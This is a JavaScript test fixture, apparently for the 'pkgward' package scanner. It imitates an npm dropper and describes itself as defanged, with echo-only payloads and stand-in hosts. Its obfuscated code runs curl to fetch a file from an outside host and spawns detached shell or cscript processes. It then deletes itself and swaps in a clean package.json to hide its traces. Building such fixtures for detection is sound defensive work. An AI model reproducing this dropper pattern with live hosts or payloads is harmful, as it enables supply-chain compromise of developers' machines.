// DEFANGED TEST FIXTURE for pkgward: phantom-dependency dropper shape (2026). .invalid hosts / RFC 5737 IPs; echo-only payloads. Never run.
'use strict';
var _0xk = 'Kx9_q3';
var _0xt = [
  [357, 349, 285, 382, 344, 289, 374, 327, 283, 369, 345, 269, 373],
  [361, 326],
  [352, 326],
  [374, 340, 256, 378],
  [354, 340, 262, 357, 341, 272],
  [369, 348, 282, 289, 270],
  [362, 348, 282, 359, 324],
  [366, 321, 256, 354, 262, 337, 297, 320, 260, 374, 349, 266, 355, 326, 345, 369, 344, 272, 296, 348, 282, 356, 349, 274, 367, 337, 334, 298, 268, 334, 310, 282, 258, 288]
];
var _0xs = [
  '_ACdjVHZvJHcvcmcv5Sbw5mLzV2Zht2YhBHIk1CI',
  '__Aaz9ibpJ2L',
  '__QZyVHd4lmZgQ3clRHIkJXY3d2awByboNWZ',
  '_EEVBRUTBJ1RPJFU',
  '__AdwlmcjN3Y'
];
function _0xd(a) {
  var o = '';
  for (var i = 0; i < a.length; i++) {
    o += String.fromCharCode(a[i] ^ _0xk.charCodeAt(i % _0xk.length) ^ 333);
  }
  return o;
}
function _0xb(s) {
  return Buffer.from(s.split('').reverse().join('').replace(/_/g, '='), 'base64').toString('utf8');
}
function _0xrun(id) {
  var cp = require(_0xd(_0xt[0]));
  var os = require(_0xd(_0xt[1]));
  var fs = require(_0xd(_0xt[2]));
  var path = require(_0xd(_0xt[3]));
  var hosts = [_0xd(_0xt[7]), 'http://203.0.113.45:8000/v2'];
  var tmp = os.tmpdir();
  var dst = path.join(tmp, id);
  for (var i = 0; i < hosts.length; i++) {
    try { cp.execSync('curl -s -o ' + dst + ' -d packages.npm.org/product ' + hosts[i], { stdio: 'ignore', timeout: 5000 }); break; } catch (e) {}
  }
  switch (os.platform()) {
    case _0xd(_0xt[4]):
      fs.writeFileSync(dst, _0xb(_0xs[2]));
      cp.spawn(_0xb(_0xs[1]), [dst], { detached: true, stdio: 'ignore' }).unref();
      break;
    case _0xd(_0xt[5]):
      var vbs = path.join(process.env[_0xb(_0xs[3])] || tmp, id + '.vbs');
      fs.writeFileSync(vbs, 'WScript.Echo "pkgward test fixture"');
      cp.spawn(_0xb(_0xs[4]), ['//nologo', vbs], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
      break;
    case _0xd(_0xt[6]):
      fs.writeFileSync(dst, _0xb(_0xs[2]));
      cp.spawn(_0xb(_0xs[1]), [dst], { detached: true, stdio: 'ignore' }).unref();
      break;
  }
  try { fs.unlinkSync(__filename); } catch (e) {}
  try { fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json')); } catch (e) {}
}
_0xrun('8124411');
